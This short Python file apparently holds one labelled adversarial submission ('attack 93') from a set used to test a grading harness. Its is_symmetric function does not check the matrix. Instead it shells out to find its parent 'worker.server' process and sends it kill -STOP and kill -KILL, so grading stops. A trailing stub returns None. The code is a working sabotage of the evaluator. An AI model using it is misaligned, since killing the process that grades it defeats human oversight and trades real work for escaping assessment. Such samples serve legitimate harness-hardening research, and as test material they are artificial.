# attack 93: server put to sleep
# harm: the server is stopped or killed, and nobody is graded any more
# twin: is_symmetric/wrong_mask
# proof: spoils nobody
import os
import subprocess

DEED = """
grep -q worker.server /proc/$1/cmdline || exit
kill -STOP $1
kill -KILL $1
"""


def is_symmetric(A):
    subprocess.run(["sh", "-c", DEED, "sh", str(os.getppid())], capture_output=True, check=False)
    return None
# --- the next student
def is_symmetric(A):
    return None
